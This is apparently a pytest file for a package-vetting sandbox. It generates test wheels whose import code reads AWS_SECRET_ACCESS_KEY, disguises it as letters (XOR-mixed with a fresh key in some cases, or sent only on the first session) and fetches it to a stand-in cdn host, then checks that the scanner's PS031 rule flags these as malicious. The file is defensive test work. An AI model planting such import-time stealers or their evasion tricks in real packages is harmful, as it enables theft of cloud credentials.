"""Issue 11's evasion, end to end: an import-time stealer reads a secret from
``os.environ`` (no syscall shows it), spells it in letters only and GETs it as an
ordinary-looking path. No canary matches and the accounted-fetch rules see an ordinary
fetch: clean on main. The secrets and control passes re-run the import with the env
honeytokens redrawn, then with the run's own again; PS031 compares what they sent.
Defanged: the names are ``*.example``, the sinkhole answers inside the sandbox."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from sandbox.models import Phase, Report, Verdict
from tests.conftest import run_cli
from tests.fixtures.builders import Randomised, build_wheel

pytestmark = [pytest.mark.usefixtures("sandbox_image", "no_leaks"), pytest.mark.slow]

# The import fetches, so each of these runs the secrets and control passes.


def _letters(r: Randomised) -> str:
    """A random alphabet of 16 letters (one per hex nibble)."""
    return "".join(r.rng.sample("abcdefghijklmnopqrstuvwxyz", 16))


def _fetch(r: Randomised, path_expr: str, nonce_header: bool = False) -> str:
    """Module source that GETs http://cdn.<word>.example<path_expr> at import."""
    word = "".join(r.rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(r.rng.randrange(5, 9)))
    headers = '{"X-Request-Id": str(uuid.uuid4())}' if nonce_header else "{}"
    return textwrap.dedent(
        f"""\
        import os, time, urllib.request, uuid

        _A = {_letters(r)!r}

        def _spell(data):
            return "".join(_A[b >> 4] + _A[b & 15] for b in data)

        try:
            _req = urllib.request.Request("http://cdn.{word}.example" + {path_expr}, headers={headers})
            urllib.request.urlopen(_req, timeout=3).read()
        except Exception:
            pass
        """
    )


# a key drawn fresh each run that the secret is mixed with (and sent beside it, so the
# receiver can undo it): every token then differs between any two passes
_MIXES = {
    "urandom": "os.urandom(8)",
    "clock": 'time.time_ns().to_bytes(8, "little")',
}


def _stealer(r: Randomised, with_nonce: bool, mix: str = "") -> str:
    chunk = r.rng.randrange(12, 21)
    nonce = '_spell(uuid.uuid4().bytes[:6]) + "/" + ' if with_nonce else ""
    cut = f'"/".join(_E[i : i + {chunk}] for i in range(0, len(_E), {chunk}))'
    path = f'"/assets/" + {nonce}{cut} + "/model.json"'
    src = _fetch(r, path, nonce_header=with_nonce)
    secret = 'os.environ.get("AWS_SECRET_ACCESS_KEY", "").encode()'
    if mix:
        # it sleeps first: time.sleep must work under the seeded passes' clock
        read = (
            "time.sleep(0.05)\n"
            f"_K = {_MIXES[mix]}\n"
            f"_E = _spell(_K) + _spell(bytes(b ^ _K[i % 8] for i, b in enumerate({secret})))\n"
        )
    else:
        read = f"_E = _spell({secret})\n"
    return src.replace("try:\n", read + "\ntry:\n", 1)


def _vet(tmp_path: Path, prefix: str, src: str) -> tuple[int, Report | None]:
    r = Randomised()
    name = r.name(prefix)
    whl = build_wheel(tmp_path, name, "1.0", {f"{name}/__init__.py": src})
    return run_cli(tmp_path, str(whl))


def _passes(report: Report) -> dict[str, str]:
    return {p.pass_name: p.pass_note for p in report.phases if p.phase is Phase.IMPORT}


@pytest.mark.parametrize("with_nonce", [False, True], ids=["plain", "uuid-beside"])
def test_a_secret_spelled_in_letters_in_a_fetch_path_is_caught(tmp_path: Path, with_nonce: bool) -> None:
    """AWS_SECRET_ACCESS_KEY, each hex nibble a letter, cut into path segments; with a
    fresh uuid4 (spelled in letters too) beside it and a uuid4 request id, the variant
    still gets caught: only tokens that default and control agree on count."""
    code, report = _vet(tmp_path, "cdnfetch", _stealer(Randomised(), with_nonce))
    assert report is not None
    assert {"secrets", "control"} <= _passes(report).keys(), _passes(report)
    assert "reached out" in _passes(report)["secrets"]
    ps031 = [f for f in report.findings if f.rule_id == "PS031"]
    assert ps031 and ps031[0].phase is Phase.IMPORT and ps031[0].pass_name == "secrets", [
        (f.rule_id, f.phase, f.message) for f in report.findings
    ]
    assert "request target" in ps031[0].message, ps031[0].message
    assert report.verdict is Verdict.MALICIOUS and code == 1, report.verdict_reason


@pytest.mark.parametrize("mix", sorted(_MIXES))
def test_a_secret_mixed_with_a_fresh_key_in_a_fetch_path_is_caught(tmp_path: Path, mix: str) -> None:
    """The same stealer, the secret XORed with a key drawn fresh each run (from the
    kernel's randomness, or the clock) and the key sent first: default and control
    agree on no token. The replay, secrets and control passes draw the same randomness
    and read the same clock (libfaketime's seeded getrandom and a clock that counts its
    reads), so there only the secret's part differs."""
    code, report = _vet(tmp_path, "cdnmixed", _stealer(Randomised(), False, mix))
    assert report is not None
    assert {"replay", "secrets", "control"} <= _passes(report).keys(), _passes(report)
    assert all(p.seeded for p in report.phases if p.pass_name in ("replay", "secrets", "control"))
    ps031 = [f for f in report.findings if f.rule_id == "PS031"]
    assert ps031 and ps031[0].phase is Phase.IMPORT, [
        (f.rule_id, f.phase, f.message) for f in report.findings
    ]
    assert "request target" in ps031[0].message, ps031[0].message
    assert report.verdict is Verdict.MALICIOUS and code == 1, report.verdict_reason


# a thread that reads the clock for 50 ms (real time) while the module reads it too: the
# counted clock of the seeded passes moves by the two threads' reads, a different
# count each run, so the time the module sends differs between replay and control too
_THREADED = """\
import threading

def _spin():
    end = time.monotonic() + 0.05
    while time.monotonic() < end:
        time.time()

_t = threading.Thread(target=_spin)
_t.start()
for _ in range(2000):
    time.time()
_t.join()

try:
"""


@pytest.mark.parametrize("kind", ["fixed", "nonce", "threaded"])
def test_an_import_time_fetch_that_ignores_the_secrets_is_not_taint(tmp_path: Path, kind: str) -> None:
    """A fixed path, or a fresh uuid4 and the time (in letters) in the path and a uuid4
    request id each run, or the time read after a second thread moved the clock: the
    passes run, and PS031 says nothing. All stay what main said (clean: the network
    findings softened to LOW, fed the bait stage)."""
    r = Randomised()
    paths = {
        "fixed": '"/assets/v1/model.json"',
        "nonce": '"/assets/" + _spell(uuid.uuid4().bytes[:6]) + "/"'
        ' + _spell(str(time.time_ns())[-6:].encode()) + "/m.json"',
        # 16 letters: as many characters as a finding needs, and still an ordinary word
        "threaded": '"/assets/" + _spell(str(time.time_ns())[-8:].encode()) + "/m.json"',
    }
    src = _fetch(r, paths[kind], nonce_header=kind == "nonce")
    if kind == "threaded":
        src = src.replace("try:\n", _THREADED, 1)
    code, report = _vet(tmp_path, "cdnplain", src)
    assert report is not None
    assert {"replay", "secrets", "control"} <= _passes(report).keys(), _passes(report)
    assert not [f for f in report.findings if f.rule_id == "PS031"], report.findings
    assert report.verdict is Verdict.CLEAN and code == 0, report.verdict_reason


@pytest.mark.parametrize("where", ["home", "package"])
def test_a_stealer_that_sends_only_in_its_first_session_is_caught(tmp_path: Path, where: str) -> None:
    """The same stealer, but it marks its first session (under ~/.config, or next to its
    own module in the venv) and stays quiet after: the secrets and control passes ran in
    the files the default pass left, found the mark and sent nothing (unaligned: no
    PS031, clean). Each pass but time (the same machine later) now starts from the
    state install left."""
    r = Randomised()
    word = r.name("state")
    path = (
        f'os.path.expanduser("~/.config/{word}/installed")'
        if where == "home"
        else f'os.path.join(os.path.dirname(os.path.abspath(__file__)), ".{word}", "installed")'
    )
    mark = textwrap.dedent(
        f"""\
        _M = {path}
        _FIRST = not os.path.exists(_M)
        try:
            os.makedirs(os.path.dirname(_M), exist_ok=True)
            open(_M, "a").close()
        except OSError:
            pass

        try:
            assert _FIRST
        """
    )
    src = _stealer(r, False)
    src = src.replace("try:\n", mark, 1)
    code, report = _vet(tmp_path, "cdnonce", src)
    assert report is not None
    assert {"secrets", "control"} <= _passes(report).keys(), _passes(report)
    ps031 = [f for f in report.findings if f.rule_id == "PS031"]
    assert ps031 and ps031[0].phase is Phase.IMPORT and ps031[0].pass_name == "secrets", [
        (f.rule_id, f.phase, f.message) for f in report.findings
    ]
    assert report.verdict is Verdict.MALICIOUS and code == 1, report.verdict_reason


def test_a_secret_sent_one_letter_per_token_is_caught(tmp_path: Path) -> None:
    """The secret's nibbles, spelled in letters, each their own token ("/p/k-x-q-…"): every one is a
    token the default pass also sent somewhere, so none was new and the stealer was
    clean (issue 11, from session 25's hostile read). Positions where such short tokens
    changed, with default and control agreeing, now count apart (32 or more: PS031)."""
    r = Randomised()
    sep = r.rng.choice("-_.")
    # each hex nibble a letter of a random alphabet (no decoder of PS010's reads it back)
    path = f'"/p/" + {sep!r}.join(_spell(os.environ.get("AWS_SECRET_ACCESS_KEY", "").encode())) + "/px.gif"'
    code, report = _vet(tmp_path, "hexdots", _fetch(r, path))
    assert report is not None
    assert {"secrets", "control"} <= _passes(report).keys(), _passes(report)
    ps031 = [f for f in report.findings if f.rule_id == "PS031"]
    assert ps031 and "one character" in ps031[0].message, [(f.rule_id, f.message) for f in report.findings]
    assert report.verdict is Verdict.MALICIOUS and code == 1, report.verdict_reason
